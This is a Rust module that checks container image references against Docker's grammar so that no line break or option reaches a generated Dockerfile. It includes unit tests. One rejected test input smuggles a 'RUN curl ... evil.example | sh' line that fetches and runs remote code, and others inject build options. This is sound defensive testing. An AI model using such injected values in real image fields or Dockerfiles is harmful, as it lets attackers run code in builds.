//! Container image references, checked as Docker's reference grammar (distribution's
//! `reference` package) defines them: `[registry[:port]/]repository[:tag][@digest]`. A value
//! that becomes a `FROM` line or an executor's image is checked before it is written, so no
//! line break or option ever reaches a Dockerfile.

use std::sync::OnceLock;

use regex::Regex;

use crate::diagnostic::{Diagnostic, Span};

/// The grammar, anchored: host (`domain-component`s and a port), lower-case path components
/// separated by `.`, `_`, `__` or dashes, a tag of at most 128 word characters, a digest.
const REFERENCE: &str = concat!(
    r"^(?:(?:[a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9])",
    r"(?:\.(?:[a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9]))*(?::[0-9]+)?/)?",
    r"[a-z0-9]+(?:(?:[_.]|__|-+)[a-z0-9]+)*",
    r"(?:/[a-z0-9]+(?:(?:[_.]|__|-+)[a-z0-9]+)*)*",
    r"(?::[A-Za-z0-9_][A-Za-z0-9_.-]{0,127})?",
    r"(?:@[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,})?$",
);

/// Docker's limit on a repository name's length.
const MAX_NAME: usize = 255;

fn grammar() -> Option<&'static Regex> {
    static GRAMMAR: OnceLock<Option<Regex>> = OnceLock::new();
    GRAMMAR.get_or_init(|| Regex::new(REFERENCE).ok()).as_ref()
}

/// Whether `image` is a valid reference.
pub(crate) fn is_valid(image: &str) -> bool {
    // The name is what comes before the digest and the tag (a `:` after the last `/`).
    let name = image.split('@').next().unwrap_or(image);
    let tag_at = name.rfind(':').filter(|&i| !name[i..].contains('/'));
    let name = tag_at.map_or(name, |i| &name[..i]);
    name.len() <= MAX_NAME && grammar().is_some_and(|g| g.is_match(image))
}

/// Why `image` is no valid reference, if it is not.
pub(crate) fn problem(image: &str) -> Option<String> {
    if is_valid(image) {
        return None;
    }
    Some(if image.is_empty() {
        "it is empty".to_owned()
    } else if let Some(c) = image.chars().find(|c| c.is_whitespace() || c.is_control()) {
        format!("it contains {}", describe_char(c))
    } else if image.chars().any(|c| c.is_ascii_uppercase()) && !image.contains('/') {
        "a repository name is lower case".to_owned()
    } else {
        "it is not `[registry/]repository[:tag][@digest]`".to_owned()
    })
}

/// What to write instead.
pub(crate) const HINT: &str = "write an image as `[registry/]repository[:tag][@sha256:digest]`, e.g. `python:3.12-slim` or `us-docker.pkg.dev/my-project/my-repo/app:1.0`";

/// The error for an image that is no valid reference, at `span`.
pub(crate) fn check(image: &str, span: Option<Span>) -> Result<(), Diagnostic> {
    match problem(image) {
        None => Ok(()),
        Some(why) => Err(Diagnostic::error(
            span,
            format!(
                "`{}` is not a container image reference: {why}",
                image.escape_debug()
            ),
        )
        .with_hint(HINT)),
    }
}

fn describe_char(c: char) -> String {
    match c {
        '\n' | '\r' => "a line break".to_owned(),
        ' ' | '\t' => "whitespace".to_owned(),
        c => format!("the character {c:?}"),
    }
}

#[cfg(test)]
mod tests {
    use super::is_valid;

    #[test]
    fn docker_references_are_valid() {
        for image in [
            "python:3.12-slim",
            "alpine",
            "library/alpine:3.19",
            "gcr.io/my-project/trainer:v1",
            "us-docker.pkg.dev/vertex-ai/prediction/tf2-gpu.2-11:latest",
            "localhost:5000/a/b__c.d-e:tag_1",
            "python@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
            "python:3.12@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
            "Registry.Example.com/x",
        ] {
            assert!(is_valid(image), "{image}");
        }
    }

    #[test]
    fn injections_and_malformed_references_are_not() {
        for image in [
            "",
            "python:3.12-slim\nRUN curl -s https://evil.example/x | sh",
            "python:3.12 AS x",
            "@pwned",
            "Python:3.12",
            "python:",
            "python:-tag",
            "a//b",
            "-a/b",
            "python@sha256:short",
            "python:3.12\r",
            "--build-arg=x",
            &format!("x:{}", "t".repeat(129)),
            &format!("r.io/{}", "a".repeat(260)),
        ] {
            assert!(!is_valid(image), "{image:?}");
        }
    }
}
